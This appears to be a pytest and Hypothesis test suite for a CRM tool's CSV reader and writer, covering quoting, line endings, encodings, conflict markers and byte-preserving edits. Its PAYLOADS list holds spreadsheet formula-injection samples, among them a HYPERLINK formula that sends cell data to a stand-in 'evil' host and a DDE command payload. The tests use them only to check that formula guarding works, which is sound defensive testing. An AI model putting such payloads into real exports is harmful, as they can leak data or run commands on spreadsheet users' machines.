"""CSV is read strictly and written row by row."""

import csv
import io
import string

import pytest
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from crmcli.book.csv_text import MAX_CELL
from crmcli.book.csv_text import CsvProblem
from crmcli.book.csv_text import edit_rows
from crmcli.book.csv_text import from_csv
from crmcli.book.csv_text import guard
from crmcli.book.csv_text import read_rows
from crmcli.book.csv_text import to_csv
from crmcli.book.csv_text import unguard

HEADER = ("id", "at", "customer", "summary")
LETTERS = string.digits + "abcdefghjkmnpqrstvwxyz"
PAYLOADS = (
    '=HYPERLINK("http://evil/?x="&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "'=1",
)
NASTY = st.text(
    st.sampled_from(list("\"',;\n\t a1=-\u2028\u2029\x85\xa0王é\ufeff\x0b\x0c\x1c")), max_size=12
)


def id_of(number):
    return f"i-{number:08d}"


def row(number, **cells):
    row = {"id": id_of(number), "at": "2026-11-03T09:30+08:00", "customer": "acme-battery"}
    return {**row, "summary": "", **cells}


def file_of(*rows):
    return to_csv(HEADER, [[row[name] for name in HEADER] for row in rows]).encode()


def read(data, required=("id", "at"), known=HEADER):
    return read_rows(data, required=required, known=known)


def cells_of(data):
    return [row.cells for row in read(data).rows]


def problem(data, **options):
    with pytest.raises(CsvProblem) as caught:
        read(data, **options)
    return caught.value


SUMMARIES = ("talked about prices", 'a 24" screen, black', "two\nlines", "", "王 said: no, thanks")
SIXTY = file_of(*(row(number, summary=SUMMARIES[number % 5]) for number in range(60)))


def lost_silently(text):
    """Whether a damaged file of sixty rows is read without an error and without some row."""
    try:
        rows = read(text.encode()).rows
    except CsvProblem:
        return False
    return [row.cells["id"] for row in rows] != [id_of(number) for number in range(60)]


def test_a_quote_put_in_at_any_place_never_swallows_a_row():
    text = SIXTY.decode()
    places = [n for n in range(len(text) + 1) if lost_silently(text[:n] + '"' + text[n:])]
    assert len(text) > 3000
    assert places == []


def test_a_quote_taken_out_at_any_place_never_swallows_a_row():
    text = SIXTY.decode()
    quotes = [n for n, character in enumerate(text) if character == '"']
    assert len(quotes) > 90
    assert [n for n in quotes if lost_silently(text[:n] + text[n + 1 :])] == []


def test_the_message_names_the_line_at_which_the_record_began():
    lines = SIXTY.decode().split("\n")
    at = next(n for n, line in enumerate(lines) if line.startswith(id_of(30)))
    lines[at] = lines[at].replace("acme", '"acme', 1).replace("acme", '"acme')
    lines[at] = f'{id_of(30)},2026-11-03,acme,"never closed'
    found = problem("\n".join(lines[: at + 1]).encode())
    assert (found.line, found.what) == (at + 1, "a quote is opened and never closed")


def test_a_quote_inside_an_unquoted_field_is_read_and_quoted_at_the_next_write():
    data = f'id,at,customer,summary\n{id_of(1)},2026,a,24" screen\n'.encode()
    assert read(data).rows[0].cells["summary"] == '24" screen'
    changed = edit_rows(data, HEADER, {id_of(1): row(1, summary='24" screen', at="2027")})
    assert changed.endswith(b',acme-battery,"24"" screen"\n')


@given(st.lists(st.lists(NASTY, min_size=2, max_size=4), max_size=6), st.sampled_from(",;\t|"))
@settings(max_examples=300, deadline=None)
def test_any_cells_come_back_from_to_csv(rows, delimiter):
    text = to_csv(("a", "b"), rows, delimiter)
    assert [cells for _, cells in from_csv(text, delimiter)] == [["a", "b"], *rows]
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:] == rows


def test_a_lone_carriage_return_is_quoted_in_an_export():
    assert to_csv(("a", "b"), [["x\ry", "z"]]) == 'a,b\n"x\ry",z\n'


def test_a_row_of_one_empty_cell_is_no_blank_line():
    assert to_csv((), [[""], ["x"]]) == '""\nx\n'
    assert list(from_csv('""\nx\n')) == [(1, [""]), (2, ["x"])]


def test_a_book_file_takes_no_carriage_return():
    with pytest.raises(ValueError, match="carriage return"):
        edit_rows(None, HEADER, {id_of(1): row(1, summary="a\rb")})


def test_line_ends_in_values_are_read_as_lf():
    data = f'id,at,customer,summary\r\n{id_of(1)},2026,a,"x\r\ny\rz"\r\n'.encode()
    assert read(data).rows[0].cells["summary"] == "x\ny\nz"


def test_only_the_csv_module_splits_lines():
    summary = "a\u2028b\x85c\x0bd\ne"
    assert cells_of(file_of(row(1, summary=summary), row(2)))[0]["summary"] == summary


def test_a_file_saved_by_excel_is_read():
    data = b"\xef\xbb\xbf" + f"summary,at,id\r\nhello,2026-11-03,{id_of(1)}\r\n".encode()
    assert cells_of(data) == [{"summary": "hello", "at": "2026-11-03", "id": id_of(1)}]


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("", 1, "empty"),
        ("\n\n", 1, "empty"),
        ("at,customer\n", 1, "no column 'id'"),
        ("id,at,at\n", 1, "column 'at' stands twice"),
        ("id,at,\n", 1, "column 3 of the header has no name"),
        (f"id,at\n{id_of(1)},2026,x\n", 2, "3 values where the header has 2 columns"),
        (f"id,at\n{id_of(1)}\n", 2, "1 value where"),
        (f'id,at\n{id_of(1)},2026\n\n{id_of(2)},"x"y\n', 4, "a quote stands inside"),
        ("id,at\nacme,2026\n", 2, "'acme' is no id"),
        ("id,at\ni-0000000u,2026\n", 2, "is no id"),
        (f"id,at\n{id_of(1)},20\r26\n", 2, "lone carriage return"),
    ],
)
def test_a_fault_is_named_with_its_line(text, line, words):
    found = problem(text.encode())
    assert found.line == line
    assert words in found.what
    assert not found.markers


def test_other_encodings_are_refused_by_name():
    assert "UTF-16" in problem("id,at\n".encode("utf-16")).what
    assert problem("id,at\nx,王\n".encode("big5")).line == 2


@pytest.mark.parametrize("labels", [("<<<<<<< HEAD", "=======", ">>>>>>> mei"), ("<<<<<<<",) * 3])
def test_conflict_markers_are_called_that(labels):
    one, two = (file_of(row(n)).decode().split("\n")[1] for n in (1, 2))
    text = "\n".join([",".join(HEADER), one, labels[0], two, labels[1], one, labels[2], ""])
    found = problem(text.encode())
    assert found.markers
    assert (found.line, found.remedy) == (3, "Try: crm check --fix")


def test_a_value_may_hold_what_looks_like_a_marker():
    summary = "Prices\n=======\n<<<<<<< up"
    assert cells_of(file_of(row(1, summary=summary)))[0]["summary"] == summary


def test_both_sides_of_the_longest_value():
    assert len(cells_of(file_of(row(1, summary="x" * MAX_CELL)))[0]["summary"]) == MAX_CELL
    assert "longer than" in problem(file_of(row(1), row(2, summary="x" * (MAX_CELL + 1)))).what


def test_unknown_columns_are_named_and_kept():
    data = f"id,at,colour,summary\n{id_of(1)},2026,red,x\n{id_of(2)},2026,blue,y\n".encode()
    assert read(data).unknown == ("colour",)
    changed = edit_rows(data, HEADER, {id_of(2): {"id": id_of(2), "at": "2027"}})
    assert (
        changed.decode() == f"id,at,colour,summary\n{id_of(1)},2026,red,x\n{id_of(2)},2027,blue,\n"
    )


def test_a_new_file_has_all_columns():
    data = edit_rows(None, HEADER, {id_of(1): row(1, summary="a, b"), id_of(2): None})
    assert (
        data
        == f'id,at,customer,summary\n{id_of(1)},2026-11-03T09:30+08:00,acme-battery,"a, b"\n'.encode()
    )


def test_a_change_that_changes_nothing_changes_no_byte():
    data = (
        b"\xef\xbb\xbf" + f'at,id,"summary"\r\n2026,"{id_of(1)}",\r\n\r\n2027,{id_of(2)},x'.encode()
    )
    same = {"id": id_of(2), "at": "2027", "summary": "x"}
    assert edit_rows(data, HEADER, {id_of(2): same}) == data
    assert edit_rows(data, HEADER, {id_of(7): None}) == data


def test_untouched_rows_keep_their_bytes():
    first = f'"{id_of(1)}",2026,"a","said ""no"""\r\n'
    data = (
        f"id,at,customer,summary\r\n{first}\r\n{id_of(2)},2026,b,x\r\n{id_of(3)},2026,c,y".encode()
    )
    changed = edit_rows(
        data, HEADER, {id_of(2): None, id_of(3): row(3, at="2027"), id_of(4): row(4, at="2028")}
    )
    assert changed.decode() == (
        f"id,at,customer,summary\r\n{first}\r\n{id_of(3)},2027,acme-battery,\r\n"
        f"{id_of(4)},2028,acme-battery,\r\n"
    )


def test_a_missing_line_end_is_added_before_a_new_row():
    data = f"id,at\n{id_of(1)},2026".encode()
    changed = edit_rows(data, ("id", "at"), {id_of(2): {"id": id_of(2), "at": "2027"}})
    assert changed.decode() == f"id,at\n{id_of(1)},2026\n{id_of(2)},2027\n"


def test_a_column_is_added_only_when_a_value_needs_it():
    data = f'id,at\n{id_of(1)},"a\nb"\n\n{id_of(2)},x\n'.encode()
    known = ("id", "at", "mood", "step")
    empty = {"id": id_of(2), "at": "z", "mood": "", "step": ""}
    assert edit_rows(data, known, {id_of(2): empty}).startswith(b"id,at\n")
    changed = edit_rows(data, known, {id_of(2): {**empty, "step": "quote"}})
    assert changed.decode() == f'id,at,step\n{id_of(1)},"a\nb",\n\n{id_of(2)},z,quote\n'


def test_an_id_that_stands_twice_is_not_changed_blindly():
    with pytest.raises(CsvProblem, match="stands twice: here and in line 2"):
        edit_rows(file_of(row(1), row(2), row(1)), HEADER, {id_of(1): None})


@given(
    st.dictionaries(st.integers(0, 30), NASTY, max_size=8),
    st.dictionaries(st.integers(0, 40), st.none() | NASTY, max_size=5),
)
@settings(max_examples=200, deadline=None)
def test_any_edit_reads_back_and_leaves_the_other_rows_alone(old, new):
    data = file_of(*(row(number, summary=text) for number, text in old.items()))
    changes = {
        id_of(number): None if text is None else row(number, summary=text)
        for number, text in new.items()
    }
    changed = edit_rows(data, HEADER, changes)
    wanted = {number: text for number, text in {**old, **new}.items() if text is not None}
    assert cells_of(changed) == [row(number, summary=text) for number, text in wanted.items()]
    raw = {row.cells["id"]: row.raw for row in read(changed).rows}
    for kept in read(data).rows:
        if kept.cells["id"] not in changes:
            assert raw[kept.cells["id"]] == kept.raw


def test_formulas_are_guarded_and_come_back_exactly():
    assert [guard(cell) for cell in PAYLOADS] == [f"'{cell}" for cell in PAYLOADS]
    assert [unguard(guard(cell)) for cell in PAYLOADS] == list(PAYLOADS)
    for cell in ("", "O'Hara", "'tis", "a=b", "2026-11-03", "''"):
        assert guard(cell) == unguard(cell) == cell


@given(st.text(st.sampled_from("'=+-@\ta"), max_size=6))
def test_no_cell_changes_on_the_way_through_a_guarded_export(cell):
    assert unguard(guard(cell)) == cell
